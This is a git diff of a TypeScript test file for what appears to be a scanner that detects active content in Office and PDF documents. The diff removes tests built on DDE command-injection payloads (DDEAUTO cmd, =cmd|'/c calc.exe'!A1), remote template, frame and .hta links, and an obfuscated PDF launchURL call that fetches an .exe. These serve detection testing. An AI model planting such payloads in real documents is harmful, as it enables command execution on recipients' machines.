@@ -36,60 +36,6 @@ const dde = {
   DdeCommand: 'cmd /c calc.exe',
 }
 
-describe('a page that Office opens', () => {
-  const office = (body: string, app = 'excel') =>
-    Buffer.from(
-      `<html xmlns:x="urn:schemas-microsoft-com:office:${app}"><body>${body}</body></html>`,
-    )
-  const code = `DDEAUTO cmd "/c calc.exe"`
-  const style = (what: string) => `<span style='mso-element:${what}'></span>`
-  const link = `=cmd|'/c calc.exe'!A1`
-  it.each([
-    ['a cell', office(`<table><tr><td>1<td>${link}</table>`)],
-    ['a cell with marks', office(`<td><b>=cmd</b>|'/c calc.exe'!A1</td>`)],
-    ['what a cell was made of', office(`<td x:fmla="${link}">1</td>`)],
-    [
-      'a field',
-      office(
-        `${style('field-begin')}${code}${style('field-separator')}1${style('field-end')}`,
-        'word',
-      ),
-    ],
-  ])('has the DDE of %s', async (_, bytes) => {
-    const { items } = await itemsOf(bytes)
-    expect(items).toHaveLength(1)
-    expect(items[0]).toMatchObject(dde)
-  })
-
-  it('has a template and frames from elsewhere', async () => {
-    const { items } = await itemsOf(
-      office(
-        '<link rel=Attached-Template href="http://a/t.dotm"><iframe src=\\\\a\\b.htm></iframe><object data="http://a/b.hta"></object>',
-        'word',
-      ),
-    )
-    expect(items.filter((i) => i.ItemKind === 'relation')).toMatchObject([
-      { RelationType: 'attachedTemplate', Target: 'http://a/t.dotm' },
-      { RelationType: 'frame', Target: '\\\\a\\b.htm' },
-      { RelationType: 'oleObject', Target: 'http://a/b.hta' },
-    ])
-  })
-
-  it.each([
-    '<td x:fmla="=SUM(A1:A2)">3</td><td>-5</td><td>a | b</td>',
-    '<link rel=File-List href="a_files/filelist.xml"><p>x</p>',
-  ])('is quiet where nothing in it acts: %s', async (body) => {
-    expect((await itemsOf(office(body))).items).toEqual([])
-  })
-
-  it('of tags that do not end is given up, and says so', async () => {
-    const { damages } = await itemsOf(office('<td '.repeat(500_000)))
-    expect(damages).toContain(
-      'page: over 256 tags that do not end; the rest was not read',
-    )
-  })
-})
-
 describe('a script of a PDF', () => {
   const script = "app['launch'+'URL']('http://files.example/a.exe')"
   const said = "JavaScript app.launchURL('http://files.example/a.exe')"
